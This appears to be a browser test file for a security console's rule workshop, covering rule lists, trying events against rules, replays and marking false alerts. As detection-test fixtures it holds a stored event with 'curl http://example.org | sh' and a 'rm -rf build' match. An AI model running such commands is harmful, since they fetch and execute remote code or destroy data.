import { describe, expect, test } from "vitest";
import { axeViolations, PHONE, settle } from "./browser.ts";
import { useConsole } from "./fixture.ts";

const app = useConsole();

describe("D-4: the rule workshop in the console", () => {
  test("the list puts what needs somebody first, and is filtered by the URL", async () => {
    const page = await app.open(await app.backend(), "/rules");
    await settle(page);
    expect(await page.locator("main .notice").first().innerText()).toContain("rules/local/half-written.yml, line 7");
    const rows = page.locator("[data-row]");
    expect(await rows.first().innerText()).toMatch(/Destructive command[^]*7 of 12 alerts[^]*41 in 24 h · 260 in 7 d/);
    await page.getByLabel("Show").selectOption("attention");
    await page.waitForURL("**/rules?show=attention");
    expect(await rows.count()).toBe(1);
    await page.getByLabel("Show").selectOption("");
    await page.getByLabel("Search").fill("one minute");
    expect(await rows.count()).toBe(1);
    await page.getByLabel("Search").press("Escape");
    await page.getByLabel("Search").blur();
    await page.keyboard.press("j");
    await page.keyboard.press("Enter");
    await page.waitForURL("**/rules/rule/r2");
  });

  test("a rule shows its source with line numbers, hits, marks, relations and its cases", async () => {
    const page = await app.open(await app.backend(), "/rules/rule/r2");
    await settle(page);
    expect(await page.locator(".source-lines > li").count()).toBe(15);
    expect(await page.getByRole("region", { name: "Hits" }).locator("rect").count()).toBeGreaterThan(80);
    expect(await page.getByRole("region", { name: "Alerts" }).innerText()).toContain("nightly job");
    await page.getByRole("button", { name: "Run" }).click();
    const cases = page.getByRole("region", { name: "Cases" });
    await cases.getByText("1 of 2 cases fail.").waitFor();
    expect(await cases.innerText()).toMatch(/a quoted name[^]*expected r2 × 1[^]*got no report/);
    expect(await axeViolations(page)).toEqual([]);
    await page.getByRole("link", { name: "r1" }).click();
    await page.waitForURL("**/rules/rule/r1");
  });

  test("what is tried is explained part by part, and broken JSON is named before it is sent", async () => {
    const backend = await app.backend();
    const page = await app.open(backend, "/rules/try?rule=r2", { size: PHONE });
    await settle(page);
    await page.getByLabel("Events", { exact: true }).fill('{"a":1}\n{broken');
    await page.getByRole("button", { name: "Try" }).click();
    await page.getByText("Line 2 is not valid JSON").waitFor();
    expect(backend.acts).toEqual([]);
    await page.getByLabel("Take a stored event").selectOption("evt_7");
    expect(await page.getByLabel("Events", { exact: true }).inputValue()).toContain("curl http://example.org | sh");
    await page.getByRole("button", { name: "Try" }).click();
    const why = page.getByRole("group", { name: "Destructive command" });
    await why.waitFor();
    expect(await why.innerText()).toMatch(/selection selection[^]*command\|contains[^]*rm -rf[^]*in[^]*rm -rf build/);
    expect(await why.innerText()).toContain("nothing: the event has no such field");
    expect(await page.getByRole("group", { name: "More than 100" }).innerText()).toContain("comes to 1");
    expect(backend.acts).toMatchObject([
      { path: "POST /rules/try", body: { ruleId: "r2", events: [{ id: "evt_7" }] } },
    ]);
    expect(await axeViolations(page)).toEqual([]);
    expect(await page.evaluate<number>("document.documentElement.scrollWidth")).toBeLessThanOrEqual(PHONE.width);
  });

  test("somebody who may only look cannot try, and reads why", async () => {
    const page = await app.open(await app.backend(), "/rules/try", { role: "viewer" });
    await settle(page);
    expect(await page.getByRole("button", { name: "Try" }).getAttribute("title")).toContain("role responder");
  });
});

describe("L-5: replays in the console", () => {
  test("one is asked for, shows its progress, and can be cancelled", async () => {
    const backend = await app.backend();
    const page = await app.open(backend, "/rules/replays");
    await settle(page);
    await page.getByLabel("Events of").selectOption("24");
    await page.getByRole("button", { name: "Replay", exact: true }).click();
    await page.waitForURL("**/rules/replays/rpl_new");
    await page.getByText("Waits for its turn").waitFor();
    const asked = backend.acts[0]?.body ?? {};
    expect(Date.parse(String(asked["to"])) - Date.parse(String(asked["from"]))).toBe(24 * 3_600_000);
    await page.getByRole("button", { name: "Cancel" }).click();
    await page.getByText("Cancelled").waitFor();
  });

  test("a result says what is new, lost and the same, over time and by rule", async () => {
    const page = await app.open(await app.backend(), "/rules/replays/rpl_done");
    await settle(page);
    const numbers = await page.locator(".numbers").innerText();
    expect(numbers).toMatch(/4\s+new alerts[^]*1\s+alerts lost|new alerts\s+4[^]*alerts lost\s+1/);
    const findings = page.getByRole("region", { name: "Would-be alerts" });
    expect(await findings.locator("li").count()).toBe(3);
    expect(await findings.innerText()).toContain("58s after the first event of its window");
    await page.getByLabel("Of", { exact: true }).selectOption("r1");
    expect(await findings.locator("li").count()).toBe(1);
    await page.getByText("As numbers").click();
    expect(await page.getByRole("table").innerText()).toMatch(/would match\s+did alert[^]*14\s+1/);
    expect(await axeViolations(page)).toEqual([]);
  });

  test("progress that the server tells of is shown", async () => {
    const backend = await app.backend();
    const page = await app.open(backend, "/rules/replays/rpl_running");
    await settle(page);
    await page.getByText("41 %").waitFor();
    const running = backend.sample.replays.find(({ id }) => id === "rpl_running");
    if (running) running.progress = { events: 20_000, matches: 9, share: 0.83 };
    backend.change("replay", "rpl_running");
    await page.getByText("83 %").waitFor();
    expect(await page.getByRole("progressbar").getAttribute("value")).toBe("0.83");
  });
});

describe("a false alert", () => {
  test("is marked on its rule's page, with a reason", async () => {
    const backend = await app.backend();
    const page = await app.open(backend, "/rules/rule/r1");
    await settle(page);
    const alerts = page.getByRole("region", { name: "Alerts" });
    await alerts.getByRole("button", { name: "False alert…" }).click();
    const mark = alerts.getByRole("button", { name: "Mark as false" });
    expect(await mark.getAttribute("title")).toContain("three characters");
    await alerts.getByLabel("Why was nothing wrong?").fill("the load test of ours");
    expect(await axeViolations(page)).toEqual([]);
    await alerts.getByLabel("Why was nothing wrong?").press("Enter");
    await alerts.getByRole("button", { name: "False alert…" }).waitFor();
    expect(backend.acts).toMatchObject([
      { path: "POST /alerts/alr_INC-2026-0042/false-positive", body: { reason: "the load test of ours" } },
    ]);
  });
});
